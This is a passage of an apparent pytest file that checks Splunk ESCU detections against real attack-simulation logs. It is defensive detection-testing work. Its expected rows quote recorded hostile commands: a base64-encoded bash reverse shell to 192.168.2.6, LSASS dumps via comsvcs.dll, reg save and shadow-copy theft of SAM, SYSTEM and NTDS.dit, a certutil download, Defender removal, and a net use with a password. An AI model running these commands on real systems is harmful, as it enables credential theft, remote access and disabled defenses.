"""Splunk's own ESCU detections on the real logs that hold their behaviour (issue 12,
acceptance: "at least 20 ESCU endpoint detections ... fire on the matching real file, and
their rows are checked by hand in a test; a sample of quiet files stays quiet").

The detections run as `stagehunt escu run` runs them: the real security_content checkout
(found as the escu commands find it), ``load_library`` and ``run_detections`` on a
DuckDB store of the real files (``shared/data/real``, SOURCES.md gives their provenance).
One store holds every file a firing test names and all the firing detections run over it
in one call, as a user runs a library; a second store holds the quiet files.

Every expected row was worked out by hand from the named record(s) of the named file (the
EVTX's own XML, which is what is ingested: the SigmaHQ JSON twins trim trailing spaces
the XML keeps) and the detection's SPL, through the add-ons' field rules
(knowledge/addons/*.yml, docs/cim-sources.md) and the CIM Endpoint model's calculations
(knowledge/datamodels/Endpoint.yml). Never copied from output. Conventions used below:

- Sysmon (Windows): dest = Computer; user = User without the domain; process = CommandLine;
  parent_process = ParentCommandLine; *_name = the part after the last backslash;
  process_id / parent_process_id / process_guid as recorded; registry_value_data = the
  value inside "DWORD (...)"; registry_key_name = the key above the value (EID 13);
  action: EID 13 "modified", EID 11 "created" when UtcTime = CreationUtcTime.
- Security 4688 (Splunk_TA_windows): process = CommandLine when its first token holds a
  backslash, else NewProcessName + " " + the arguments; process_id = NewProcessId (hex as
  written); parent_process_id = ProcessId; user = TargetUserName, else SubjectUserName.
- CIM calculations: a missing original_file_name, user, file_hash ... is "unknown".
- ``_time`` is the record's SystemTime (OTRF JSON: ``@timestamp``, else ``TimeCreated``,
  read as UTC); ESCU's ``security_content_ctime`` shows it as %Y-%m-%dT%H:%M:%S (UTC).
- The old Sysmon schemas (Panache 2019, mdecrevoisier, OTRF 2020) have no OriginalFileName,
  and no User on EID 11/13: hence the "unknown"s.
- Splunk does not tell an absent field from a null one, nor a one-value multivalue from a
  single value: rows are compared as dicts without null fields, one-value lists as their
  value, in any order. Columns are compared in order; the engine leaves out a column that
  no row has unless ``table`` names it.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path

import pytest

from stagehunt.backends.duckdb import DuckDBBackend
from stagehunt.compile import CompiledQuery
from stagehunt.escu import Status, load_library
from stagehunt.escu.cache import knowledge_reads_clock, reads_clock, tables_key
from stagehunt.escu.content import default_content
from stagehunt.escu.library import Library
from stagehunt.escu.runner import run_detections
from stagehunt.escu.status import Outcome
from stagehunt.knowledge import Knowledge
from stagehunt.knowledge.model import Addon, Calculation, Stanza
from stagehunt.sigma.cache import ConversionCache
from stagehunt.store.event_store import EventStore
from stagehunt.store.schema import ColumnKind

ROOT = Path(__file__).resolve().parents[1]


def _real() -> Path | None:
    for parent in ROOT.parents:
        candidate = parent / "shared" / "data" / "real"
        if candidate.is_dir():
            return candidate
    return None


CONTENT = default_content()
REAL = _real()
pytestmark = pytest.mark.skipif(
    CONTENT is None or REAL is None, reason="no security_content snapshot or real logs here"
)

SIGMA = Path("SigmaHQ-sigma/regression_data/rules/windows")
PROC = SIGMA / "process_creation"
OTRF = Path("OTRF-Security-Datasets")
SBOUS = Path("sbousseaden-EVTX-ATTACK-SAMPLES")
MDEC = Path("mdecrevoisier-EVTX-to-MITRE-Attack")

# ------------------------------------------------------------------ the files that fire
SC_STOP = PROC / "proc_creation_win_sc_stop_service/81bcb81b-5b1f-474b-b373-52c871aaa7b1.evtx"
CERTUTIL_URLCACHE = (
    PROC / "proc_creation_win_certutil_download/19b08b1c-861d-4e75-a1ef-ea0c1baf202b.evtx"
)
CERTUTIL_PFX = (
    PROC / "proc_creation_win_certutil_export_pfx/3ffd6f51-e6c1-47b7-94b4-c1e61d4117c5.evtx"
)
CHCP = PROC / "proc_creation_win_chcp_codepage_lookup/7090adee-82e2-4269-bd59-80691e7c6338.evtx"
CIPHER = (
    PROC / "proc_creation_win_cipher_overwrite_deleted_data"
    "/4b046706-5789-4673-b111-66f25fe99534.evtx"
)
DSQUERY = (
    PROC / "proc_creation_win_dsquery_domain_trust_discovery"
    "/3bad990e-4848-4a78-9530-b427d854aac0.evtx"
)
DISM = PROC / "proc_creation_win_dism_remove/43e32da2-fdd0-4156-90de-50dfd62636f9.evtx"
FINDSTR = PROC / "proc_creation_win_findstr_gpp_passwords/91a2c315-9ee6-4052-a853-6f6a8238f90d.evtx"
ADVANCEDRUN = (
    PROC / "proc_creation_win_pua_advancedrun_priv_user/fa00b701-44c6-4679-994d-5a18afa8a707.evtx"
)
RTLO = (
    PROC / "proc_creation_win_susp_right_to_left_override/ad691d92-15f2-4181-9aa4-723c74f9ddc3.evtx"
)
TASKMGR_DUMP = (
    SIGMA / "file/file_event/file_event_win_taskmgr_lsass_dump"
    "/69ca12af-119d-44ed-b50f-a47af0ebc364.evtx"
)
SHIM = (
    SIGMA / "file/file_event/file_event_win_creation_new_shim_database"
    "/ee63c85c-6d51-4d12-ad09-04e25877a947.evtx"
)
REG = SIGMA / "registry/registry_set"
HVCI = (
    REG / "registry_set_deviceguard_hypervisorenforcedcodeintegrity_disabled"
    "/8b7273a4-ba5d-4d8a-b04f-11f2900d043a.evtx"
)
SECURITY_CENTER = (
    REG / "registry_set_disable_security_center_notifications"
    "/3ae1a046-f7db-439d-b7ce-b8b366b81fa6.evtx"
)
REMOTE_ASSISTANCE = (
    REG / "registry_set_allow_rdp_remote_assistance_feature"
    "/37b437cf-3fc5-4c8e-9c94-1d7c9aff842b.evtx"
)
SPECIAL_ACCOUNTS = REG / "registry_set_special_accounts/f8aebc67-a56d-4ec9-9fbe-7b0e8b7b4efd.evtx"
AMSI = REG / "registry_set_amsi_disable/aa37cbb0-da36-42cb-a90f-fdf216fc7467.evtx"
DBGCORE = (
    SIGMA / "process_access/proc_access_win_susp_dbgcore_dbghelp_load"
    "/9f5c1d59-33be-4e60-bcab-85d2f566effd.evtx"
)
VCRUNTIME = (
    SIGMA / "image_load/image_load_side_load_vcruntime140/d7a63acb-1284-49bc-bfea-7771146c8b1c.evtx"
)
#: Sysmon 1/10 and Security 4688/1102, WORKSTATION5: rundll32 comsvcs.dll MiniDump of lsass
LSASS_COMSVCS = OTRF / "psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json"
#: Sysmon 1 and Security 4688: esentutl /vss copy of the SAM hive; Security 1102, System 104
SAM_ESENTUTL = OTRF / "cmd_sam_copy_esentutl_2020-10-1900290001.json"
#: Security 5140/5145 (NXLog JSON, channel "security"): GruntHTTP.exe copied over C$
COVENANT_SMB = OTRF / "covenant_copy_smb_CreateRequest_2020-09-22145302.json"
#: Sysmon for Linux (Sentinel Syslog JSON): Log4Shell, java spawning bash
LOG4SHELL_SYSMON = (
    OTRF / "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"
)
#: 565 Sysmon events of a 2019 Atomic Red Team run on MSEDGEWIN10 (reg save, ntds.dit copy
#: from a shadow copy, net use, WMI persistence ...)
PANACHE = SBOUS / "PanacheSysmon_vs_AtomicRedTeam01.evtx"
#: Sysmon 1/10/11: Outflank Dumpert, the Dumpert DLL through rundll32, AndrewSpecial
DUMPERT = SBOUS / "sysmon_10_11_outlfank_dumpert_and_andrewspecial_memdump.evtx"
#: Sysmon 1/7/11: UAC bypass, makecab.exe writes suspicious.cab
MCX2PROV = SBOUS / "sysmon_1_7_11_mcx2prov_uacbypass.evtx"
SETHC = MDEC / "ID11-New sethc file created from CMD copy.evtx"
TASKMGR_DUMP_2 = MDEC / "ID11-LSASS credentials dump via Task Manager.evtx"

FIRE_FILES = (
    SC_STOP,
    CERTUTIL_URLCACHE,
    CERTUTIL_PFX,
    CHCP,
    CIPHER,
    DSQUERY,
    DISM,
    FINDSTR,
    ADVANCEDRUN,
    RTLO,
    TASKMGR_DUMP,
    SHIM,
    HVCI,
    SECURITY_CENTER,
    REMOTE_ASSISTANCE,
    SPECIAL_ACCOUNTS,
    AMSI,
    DBGCORE,
    VCRUNTIME,
    LSASS_COMSVCS,
    SAM_ESENTUTL,
    COVENANT_SMB,
    LOG4SHELL_SYSMON,
    PANACHE,
    DUMPERT,
    MCX2PROV,
    SETHC,
    TASKMGR_DUMP_2,
)

#: the detections checked below, by ESCU name
FIRING = (
    "Attempt To Stop Security Service",
    "CertUtil Download With URLCache and Split Arguments",
    "Certutil exe certificate extraction",
    "CHCP Command Execution",
    "Clear Unallocated Sector Using Cipher App",
    "DSQuery Domain Discovery",
    "Windows DISM Remove Defender",
    "Windows Findstr GPP Discovery",
    "Windows NirSoft AdvancedRun",
    "Detect RTLO In Process",
    "Dump LSASS via comsvcs DLL",
    "Esentutl SAM Copy",
    "Attempted Credential Dump From Registry via Reg exe",
    "Credential Dumping via Copy Command from Shadow Copy",
    "Windows Network Share Interaction With Net",
    "Creation of Shadow Copy",
    "Linux Java Spawning Shell",
    "Shim Database File Creation",
    "Windows CAB File on Disk",
    "Overwriting Accessibility Binaries",
    "Windows Impair Defenses Disable HVCI",
    "Windows Modify Registry Disable Windows Security Center Notif",
    "Windows Remote Services Allow Remote Assistance",
    "Hide User Account From Sign-In Screen",
    "Disable AMSI Through Registry",
    "Access LSASS Memory for Dump Creation",
    "Detect Credential Dumping through LSASS access",
    "Windows Possible Credential Dumping",
    "Creation of lsass Dump with Taskmgr",
    "WMI Permanent Event Subscription - Sysmon",
    "Windows SqlWriter SQLDumper DLL Sideload",
    "Windows Event Log Cleared",
    "Executable File Written in Administrative SMB Share",
    "Network Share Discovery Via Dir Command",
)


@pytest.fixture(scope="module")
def library() -> Library:
    assert CONTENT is not None
    return load_library(CONTENT)


def _run(library: Library, files: Sequence[Path], names: Sequence[str]) -> dict[str, Outcome]:
    assert REAL is not None
    with EventStore(in_memory=True) as store:
        store.load([REAL / f for f in files])
        detections = [library.find(n) for n in names]
        outcomes = run_detections(
            library, DuckDBBackend.from_store(store), detections, keep_rows=None
        )
        return {o.detection.name: o for o in outcomes}


@pytest.fixture(scope="module")
def fired(library: Library) -> dict[str, Outcome]:
    return _run(library, FIRE_FILES, FIRING)


# ------------------------------------------------------------------ comparing rows


def _epoch(iso: str) -> float:
    """An ISO-8601 UTC time (a SystemTime) as epoch seconds."""
    return datetime.fromisoformat(iso).timestamp()


def _value(v: object) -> object:
    if isinstance(v, list) and len(v) == 1:
        v = v[0]
    if isinstance(v, float):
        return round(v, 6)
    if isinstance(v, list):
        return tuple(v)
    return v


def _canon(row: dict[str, object]) -> tuple[tuple[str, str], ...]:
    return tuple(sorted((k, repr(_value(v))) for k, v in row.items() if v is not None))


def check(
    fired: dict[str, Outcome],
    name: str,
    columns: str,
    rows: Sequence[Sequence[object]],
) -> None:
    """The detection ran; its columns are ``columns`` (space-separated, in order) and its
    rows ``rows`` (values in that order, None for a field the row lacks), in any order."""
    outcome = fired[name]
    assert outcome.status is Status.RAN, (outcome.status, outcome.reason)
    assert outcome.result is not None
    names = columns.split()
    assert outcome.result.columns == names
    expected = [_canon(dict(zip(names, r, strict=True))) for r in rows]
    got = [_canon(dict(zip(outcome.result.columns, r, strict=True))) for r in outcome.result.rows]
    assert sorted(got) == sorted(expected)


AR_DC = "ar-win-dc.attackrange.local"
AR_CMD = '"C:\\Windows\\System32\\cmd.exe" '  # ParentCommandLine of the Attack Range shells


# ================================================================== Endpoint.Processes (tstats)
# The SigmaHQ regression EVTXs below hold one Sysmon EID 1 each, recorded on Splunk Attack
# Range hosts; ParentCommandLine keeps the trailing space the XML has.

TSTATS_TIMES = "firstTime lastTime"


def test_attempt_to_stop_security_service(fired: dict[str, Outcome]) -> None:
    """SC_STOP, record 1 (ar-win-1, 2025-10-22T20:33:27.2767Z): sc.exe, CommandLine
    'sc  stop mpssvc', User AR-WIN-1\\Administrator, OriginalFileName sc.exe, pid 3424,
    parent cmd.exe 8252 '"C:\\Windows\\system32\\cmd.exe" '. The where: (`process_net` OR
    process_name=sc.exe) AND process="* stop *" (OR binds first). `values(process) as
    process` and BY process name the same field: the BY value after the rename. The
    security_services lookup (WILDCARD(service)) matches '*mpssvc*' → category security,
    description "Windows Firewall Service", so `search category=security` keeps it. No
    other loaded process stops a service of that list (Panache's 'sc.exe stop
    AtomicTestService' matches no pattern: category "false", the lookup's default_match)."""
    check(
        fired,
        "Attempt To Stop Security Service",
        "dest user parent_process parent_process_name process_name original_file_name process "
        "process_id parent_process_id firstTime lastTime category description",
        [
            (
                "ar-win-1",
                "Administrator",
                '"C:\\Windows\\system32\\cmd.exe" ',
                "cmd.exe",
                "sc.exe",
                "sc.exe",
                "sc  stop mpssvc",
                "3424",
                "8252",
                "2025-10-22T20:33:27",
                "2025-10-22T20:33:27",
                "security",
                "Windows Firewall Service",
            )
        ],
    )


def test_certutil_download_with_urlcache(fired: dict[str, Outcome]) -> None:
    """CERTUTIL_URLCACHE, record 1 (17:02:36.9006Z): certutil.exe '-urlcache -f https://...
    atomic.yaml', OriginalFileName CertUtil.exe, pid 6484, parent cmd.exe 6304. The where
    is name AND ((urlcache AND split) OR urlcache): -urlcache alone suffices."""
    check(
        fired,
        "CertUtil Download With URLCache and Split Arguments",
        "dest user parent_process parent_process_name process_name process process_id "
        "original_file_name parent_process_id count " + TSTATS_TIMES,
        [
            (
                AR_DC,
                "Administrator",
                AR_CMD,
                "cmd.exe",
                "certutil.exe",
                "certutil.exe  -urlcache -f https://raw.githubusercontent.com/redcanaryco/"
                "atomic-red-team/refs/heads/master/atomics/T1001.002/T1001.002.yaml atomic.yaml",
                "6484",
                "CertUtil.exe",
                "6304",
                1,
                "2025-10-25T17:02:36",
                "2025-10-25T17:02:36",
            )
        ],
    )


def test_certutil_certificate_extraction(fired: dict[str, Outcome]) -> None:
    """CERTUTIL_PFX, record 1 (17:23:42.0497Z): certutil -exportPFX, pid 2456, parent 6304."""
    check(
        fired,
        "Certutil exe certificate extraction",
        "dest user parent_process parent_process_name process_name process process_id "
        "parent_process_id count " + TSTATS_TIMES,
        [
            (
                AR_DC,
                "Administrator",
                AR_CMD,
                "cmd.exe",
                "certutil.exe",
                "certutil  -p secret_password -exportPFX root 1c6119aff8414c91487c4e02d18dd73D "
                "c:\\cert.pfx",
                "2456",
                "6304",
                1,
                "2025-10-25T17:23:42",
                "2025-10-25T17:23:42",
            )
        ],
    )


def test_chcp_command_execution(fired: dict[str, Outcome]) -> None:
    """CHCP, record 1 (17:27:26.9754Z): chcp.com 'chcp  ' (pid 6788) under cmd.exe
    'cmd.exe  /c chcp ' (8248): parent_process contains /c."""
    check(
        fired,
        "CHCP Command Execution",
        "process_name process parent_process_name parent_process process_id parent_process_id "
        "dest user count " + TSTATS_TIMES,
        [
            (
                "chcp.com",
                "chcp  ",
                "cmd.exe",
                "cmd.exe  /c chcp ",
                "6788",
                "8248",
                AR_DC,
                "Administrator",
                1,
                "2025-10-25T17:27:26",
                "2025-10-25T17:27:26",
            )
        ],
    )


def test_clear_unallocated_sector_using_cipher(fired: dict[str, Outcome]) -> None:
    """CIPHER, record 1 (17:32:06.4323Z): 'cipher.exe  /w:C:', pid 2876, ProcessGuid
    5AA13A44-0996-68FD-3A36-000000004002."""
    check(
        fired,
        "Clear Unallocated Sector Using Cipher App",
        "parent_process_name parent_process process_name process dest user process_id "
        "process_guid count " + TSTATS_TIMES,
        [
            (
                "cmd.exe",
                AR_CMD,
                "cipher.exe",
                "cipher.exe  /w:C:",
                AR_DC,
                "Administrator",
                "2876",
                "5AA13A44-0996-68FD-3A36-000000004002",
                1,
                "2025-10-25T17:32:06",
                "2025-10-25T17:32:06",
            )
        ],
    )


def test_dsquery_domain_discovery(fired: dict[str, Outcome]) -> None:
    """DSQUERY, record 1 (13:48:36.3929Z): dsquery filtering objectClass=trustedDomain."""
    check(
        fired,
        "DSQuery Domain Discovery",
        "dest user parent_process_name parent_process process_name process process_id "
        "parent_process_id count " + TSTATS_TIMES,
        [
            (
                AR_DC,
                "Administrator",
                "cmd.exe",
                AR_CMD,
                "dsquery.exe",
                'dsquery  * -filter "(objectClass=trustedDomain)" -attr *',
                "168",
                "6304",
                1,
                "2025-10-25T13:48:36",
                "2025-10-25T13:48:36",
            )
        ],
    )


def test_dism_remove_defender(fired: dict[str, Outcome]) -> None:
    """DISM, record 1 (13:47:34.9032Z): Image ...\\Dism.exe (process_name keeps the case;
    the where's dism.exe matches it case-insensitively), OriginalFileName DISM.EXE."""
    check(
        fired,
        "Windows DISM Remove Defender",
        "dest user parent_process_name process_name original_file_name process process_id "
        "parent_process_id count " + TSTATS_TIMES,
        [
            (
                AR_DC,
                "Administrator",
                "cmd.exe",
                "Dism.exe",
                "DISM.EXE",
                "Dism  /online /Disable-Feature /FeatureName:Windows-Defender /Remove "
                "/NoRestart /quiet",
                "7808",
                "6304",
                1,
                "2025-10-25T13:47:34",
                "2025-10-25T13:47:34",
            )
        ],
    )


def test_findstr_gpp_discovery(fired: dict[str, Outcome]) -> None:
    """FINDSTR, record 1 (13:50:13.1992Z): findstr searching sysvol for cpassword."""
    check(
        fired,
        "Windows Findstr GPP Discovery",
        "dest user parent_process_name process_name process process_id parent_process_id "
        "original_file_name count " + TSTATS_TIMES,
        [
            (
                AR_DC,
                "Administrator",
                "cmd.exe",
                "findstr.exe",
                "findstr  /S cpassword \\\\AR-WIN-DC\\sysvol\\*.xml",
                "7772",
                "6304",
                "FINDSTR.EXE",
                1,
                "2025-10-25T13:50:13",
                "2025-10-25T13:50:13",
            )
        ],
    )


def test_nirsoft_advancedrun(fired: dict[str, Outcome]) -> None:
    """ADVANCEDRUN, record 1 (srv-01.midgardnet.tech, 10:19:13.0882Z): AdvancedRun.exe run
    by MIDGARDNET\\SwachchhandaP to stop WinDefend as TrustedInstaller (/RunAs 8); the
    command line holds EXEFilename, RunAs and WindowState."""
    check(
        fired,
        "Windows NirSoft AdvancedRun",
        "dest user parent_process_name process_name process original_file_name process_id "
        "parent_process_id count " + TSTATS_TIMES,
        [
            (
                "srv-01.midgardnet.tech",
                "SwachchhandaP",
                "cmd.exe",
                "AdvancedRun.exe",
                'AdvancedRun.exe  /EXEFilename "C:\\Windows\\System32\\sc.exe" /WindowState 0 '
                '/CommandLine "stop WinDefend" /StartDirectory "" /RunAs 8 /Run',
                "AdvancedRun.exe",
                "6448",
                "700",
                1,
                "2025-10-23T10:19:13",
                "2025-10-23T10:19:13",
            )
        ],
    )


def test_detect_rtlo_in_process(fired: dict[str, Outcome]) -> None:
    """RTLO, record 1 (pcwin2.sigen.net, 08:31:26.7512Z): Image and CommandLine hold U+202E
    (RIGHT-TO-LEFT OVERRIDE): '"C:\\Users\\administrator.SIGEN.000\\Ann<U+202E>gepj.exe" ',
    OriginalFileName CALC.EXE, parent C:\\Windows\\explorer.exe ('C:\\Windows\\Explorer.EXE').
    Every allowed process passes tstats; `regex process="\\x{202E}"` keeps only this one;
    the rex splits it at the override, process becomes the two halves joined and
    process_with_RTLO the original; `fields - RTLO*` drops the pieces."""
    rtlo = '"C:\\Users\\administrator.SIGEN.000\\Ann\u202egepj.exe" '
    check(
        fired,
        "Detect RTLO In Process",
        "dest user original_file_name parent_process_name parent_process process_name process "
        "process_id process_guid parent_process_id count firstTime lastTime process_with_RTLO",
        [
            (
                "pcwin2.sigen.net",
                "Administrator",
                "CALC.EXE",
                "explorer.exe",
                "C:\\Windows\\Explorer.EXE",
                "Ann\u202egepj.exe",
                '"C:\\Users\\administrator.SIGEN.000\\Anngepj.exe" ',
                "3680",
                "0AF88113-05DE-69BD-4187-070000009900",
                "5108",
                1,
                "2026-03-20T08:31:26",
                "2026-03-20T08:31:26",
                rtlo,
            )
        ],
    )


def test_dump_lsass_via_comsvcs(fired: dict[str, Outcome]) -> None:
    """LSASS_COMSVCS: the same rundll32 seen twice, line 107 (Sysmon 1, TimeCreated
    2020-10-18 07:50:05.917) and line 17 (Security 4688, 07:50:05.910), both on
    WORKSTATION5 with CommandLine '"C:\\Windows\\System32\\rundll32.exe"
    C:\\windows\\System32\\comsvcs.dll MiniDump 756 ...\\lsass-comsvcs.dmp full'.
    Sysmon: user wardog (WORKSTATION5\\wardog), parent powershell.exe, OriginalFileName
    RUNDLL32.EXE. 4688: user = SubjectUserName wardog (TargetUserName is "-"), parent =
    ParentProcessName's file name powershell.exe, no OriginalFileName → "unknown"; process
    is the whole CommandLine (its first token has a backslash). Two rows: the BY differs
    by original_file_name only."""
    process = (
        '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll MiniDump 756 '
        "C:\\Users\\wardog\\AppData\\Local\\Temp\\lsass-comsvcs.dmp full"
    )
    t = "2020-10-18T07:50:05"
    check(
        fired,
        "Dump LSASS via comsvcs DLL",
        "user parent_process_name process_name original_file_name process dest count "
        + TSTATS_TIMES,
        [
            ("wardog", "powershell.exe", "rundll32.exe", "RUNDLL32.EXE", process,
             "WORKSTATION5", 1, t, t),
            ("wardog", "powershell.exe", "rundll32.exe", "unknown", process,
             "WORKSTATION5", 1, t, t),
        ],
    )  # fmt: skip


def test_esentutl_sam_copy(fired: dict[str, Outcome]) -> None:
    """SAM_ESENTUTL: line 890 (Sysmon 1, 12:28:31.098) and line 199 (Security 4688,
    12:28:31.089), CommandLine 'esentutl.exe  /y /vss C:\\windows/system32/config/SAM /d
    C:\\ProgramData\\SAM'. Sysmon: pid 5136, parent 5884, OriginalFileName esentutl.exe.
    4688: the first token 'esentutl.exe' has no backslash, so process = NewProcessName +
    " " + the arguments (the REPORT's \\s* eats both spaces); process_id = NewProcessId
    0x1410, parent_process_id = ProcessId 0x16fc (hex as written); user = SubjectUserName
    wardog; original_file_name "unknown"."""
    t = "2020-10-19T12:28:31"
    check(
        fired,
        "Esentutl SAM Copy",
        "dest user parent_process_name process_name original_file_name process process_id "
        "parent_process_id count " + TSTATS_TIMES,
        [
            ("WORKSTATION5", "wardog", "cmd.exe", "esentutl.exe", "esentutl.exe",
             "esentutl.exe  /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM",
             "5136", "5884", 1, t, t),
            ("WORKSTATION5", "wardog", "cmd.exe", "esentutl.exe", "unknown",
             "C:\\Windows\\System32\\esentutl.exe /y /vss C:\\windows/system32/config/SAM "
             "/d C:\\ProgramData\\SAM",
             "0x1410", "0x16fc", 1, t, t),
        ],
    )  # fmt: skip


# Panache (MSEDGEWIN10, user MSEDGEWIN10\IEUser, Sysmon schema without OriginalFileName):
# powershell (ParentCommandLine 'powershell') runs `cmd /c "<command>"`, and cmd starts the
# tool with a doubled space after its name.
PANACHE_CMD = '"C:\\Windows\\system32\\cmd.exe" /c "{}"'


def _reg_save(
    args: str, cmd_pid: str, ps_pid: str, reg_pid: str, t: str
) -> list[tuple[object, ...]]:
    """The two rows of one `reg save <args>`: the cmd.exe (parent powershell) and reg.exe
    (parent that cmd) process events, as Attempted Credential Dump's BY lists them."""
    cmd = PANACHE_CMD.format("reg save " + args)
    return [
        ("MSEDGEWIN10", "IEUser", "powershell", "powershell.exe", "cmd.exe", "unknown", cmd,
         cmd_pid, ps_pid, 1, t, t),
        ("MSEDGEWIN10", "IEUser", cmd, "cmd.exe", "reg.exe", "unknown", "reg  save " + args,
         reg_pid, cmd_pid, 1, t, t),
    ]  # fmt: skip


def test_attempted_credential_dump_from_registry_via_reg(fired: dict[str, Outcome]) -> None:
    """PANACHE, seven `reg save` of the SAM/SECURITY/SYSTEM hives, records 146-151 and
    546-551 (pairs cmd/reg) and 562-563. The where is (process_name=reg* OR cmd*) AND
    process=*save* AND a HKLM\\SAM|Security|System hive (case-insensitive): both the cmd.exe
    line and the reg.exe line match, 14 rows. Times are the records' SystemTime seconds."""
    rows = [
        *_reg_save("HKLM\\Security security.hive", "1728", "3912", "3612", "2019-07-19T14:49:33"),
        *_reg_save("HKLM\\System system.hive", "3904", "3912", "1300", "2019-07-19T14:49:39"),
        *_reg_save("HKLM\\SAM sam.hive", "2832", "3912", "4140", "2019-07-19T14:49:41"),
        *_reg_save("HKLM\\sam sam", "7140", "5840", "868", "2019-07-19T15:11:17"),
        *_reg_save("HKLM\\system system", "4080", "5840", "1136", "2019-07-19T15:11:21"),
        *_reg_save("HKLM\\security security", "7164", "5840", "4464", "2019-07-19T15:11:23"),
        *_reg_save(
            "HKLM\\SYSTEM C:\\Extract\\SYSTEM_HIVE", "6508", "5840", "6536", "2019-07-19T15:11:27"
        ),
    ]
    check(
        fired,
        "Attempted Credential Dump From Registry via Reg exe",
        "dest user parent_process parent_process_name process_name original_file_name process "
        "process_id parent_process_id count " + TSTATS_TIMES,
        rows,
    )


def test_credential_dumping_via_copy_from_shadow_copy(fired: dict[str, Outcome]) -> None:
    """PANACHE records 560 (15:11:27.169Z, pid 5772) and 561 (15:11:27.202Z, pid 976):
    cmd.exe copying NTDS.dit and config\\SYSTEM out of HarddiskVolumeShadowCopy1, under
    powershell 5840. `copy` is a cmd built-in: only cmd.exe's own line shows it. The reg
    save lines hold no \\system32\\config\\ path, so they stay out."""
    shadow = "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\"
    t = "2019-07-19T15:11:27"
    check(
        fired,
        "Credential Dumping via Copy Command from Shadow Copy",
        "dest user process_name process parent_process original_file_name process_id "
        "parent_process_id parent_process_name count " + TSTATS_TIMES,
        [
            ("MSEDGEWIN10", "IEUser", "cmd.exe",
             PANACHE_CMD.format(shadow + "NTDS\\NTDS.dit C:\\Extract\\ntds.dit"),
             "powershell", "unknown", "5772", "5840", "powershell.exe", 1, t, t),
            ("MSEDGEWIN10", "IEUser", "cmd.exe",
             PANACHE_CMD.format(shadow + "System32\\config\\SYSTEM C:\\Extract\\VSC_SYSTEM_HIVE"),
             "powershell", "unknown", "976", "5840", "powershell.exe", 1, t, t),
        ],
    )  # fmt: skip


def test_network_share_interaction_with_net(fired: dict[str, Outcome]) -> None:
    """PANACHE's three net.exe records: 103 'net  use \\\\Target\\C$ P@ssw0rd1
    /u:DOMAIN\\Administrator' (14:48:41.109Z, under 'cmd.exe  /c  net use ...'), 198 'net
    view /domain' (14:51:09.845Z) and 200 'net  view' (14:51:22.333Z). process_exec /
    parent_process_exec are the Image / ParentImage file names. The case-sensitive regex
    `net[\\s\\.ex1]+view|...|net[\\s\\.ex1]+use\\s` keeps all three. user_category and
    user_bunit are not CIM fields: values() of them is empty on every row, and the engine
    leaves such a column out."""
    use = "net use \\\\Target\\C$ P@ssw0rd1 /u:DOMAIN\\Administrator"
    check(
        fired,
        "Windows Network Share Interaction With Net",
        "user dest process_exec parent_process_exec process parent_process count "
        + TSTATS_TIMES,
        [
            ("IEUser", "MSEDGEWIN10", "net.exe", "cmd.exe",
             "net  use \\\\Target\\C$ P@ssw0rd1 /u:DOMAIN\\Administrator",
             "cmd.exe  /c  " + use, 1, "2019-07-19T14:48:41", "2019-07-19T14:48:41"),
            ("IEUser", "MSEDGEWIN10", "net.exe", "cmd.exe", "net  view /domain",
             PANACHE_CMD.format("net view /domain"), 1, "2019-07-19T14:51:09",
             "2019-07-19T14:51:09"),
            ("IEUser", "MSEDGEWIN10", "net.exe", "cmd.exe", "net  view",
             PANACHE_CMD.format("net view"), 1, "2019-07-19T14:51:22", "2019-07-19T14:51:22"),
        ],
    )  # fmt: skip


def test_creation_of_shadow_copy(fired: dict[str, Outcome]) -> None:
    """PANACHE record 558 (15:11:26.989Z): 'vssadmin.exe  create shadow /for=C:', pid 6584,
    under cmd.exe 5036 (record 557, whose own process_name is cmd.exe, not vssadmin)."""
    check(
        fired,
        "Creation of Shadow Copy",
        "dest user process_name process parent_process_name parent_process process_id "
        "parent_process_id count " + TSTATS_TIMES,
        [
            ("MSEDGEWIN10", "IEUser", "vssadmin.exe", "vssadmin.exe  create shadow /for=C:",
             "cmd.exe", PANACHE_CMD.format("vssadmin.exe create shadow /for=C:"), "6584",
             "5036", 1, "2019-07-19T15:11:26", "2019-07-19T15:11:26"),
        ],
    )  # fmt: skip


def test_linux_java_spawning_shell(fired: dict[str, Outcome]) -> None:
    """LOG4SHELL_SYSMON line 8 (Sysmon for Linux EID 1, SystemTime 18:10:22.0034Z, UBUNTU5):
    /bin/bash 'bash -c {echo,...}|{base64,-d}|{bash,-i}' (pid 17790) under
    /usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java (1340). The Sysmon-for-Linux add-on's
    names strip the directory (java, bash) and its user is "root" when the System's UserId
    is 0 (here; the event's User is tomcat), docs/cim-sources.md."""
    check(
        fired,
        "Linux Java Spawning Shell",
        "dest user parent_process_name process_name process process_id parent_process_id "
        "count " + TSTATS_TIMES,
        [
            (
                "UBUNTU5",
                "root",
                "java",
                "bash",
                "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}"
                "|{base64,-d}|{bash,-i}",
                "17790",
                "1340",
                1,
                "2022-05-11T18:10:22",
                "2022-05-11T18:10:22",
            )
        ],
    )


# ================================================================== Endpoint.Filesystem (tstats)


def test_shim_database_file_creation(fired: dict[str, Outcome]) -> None:
    """SHIM, record 1 (Sysmon 11, 23:39:53.7050Z): explorer.exe creates
    C:\\Windows\\apppatch\\CustomSDB\\my_custom.sdb (matches *Windows\\AppPatch\\Custom*
    case-insensitively); UtcTime = CreationUtcTime → action created; Sysmon 11 has no
    hash → file_hash "unknown". `values(Filesystem.action)` has no AS: its column keeps
    that name (the rename only touches names starting "Filesystem.")."""
    check(
        fired,
        "Shim Database File Creation",
        "file_name dest count values(Filesystem.action) file_hash file_path " + TSTATS_TIMES,
        [
            (
                "my_custom.sdb",
                AR_DC,
                1,
                ["created"],
                ["unknown"],
                ["C:\\Windows\\apppatch\\CustomSDB\\my_custom.sdb"],
                "2025-10-24T23:39:53",
                "2025-10-24T23:39:53",
            )
        ],
    )


def test_cab_file_on_disk(fired: dict[str, Outcome]) -> None:
    """MCX2PROV record 4 (IEWIN7, 09:50:13.5098Z): makecab.exe (pid 3716) creates
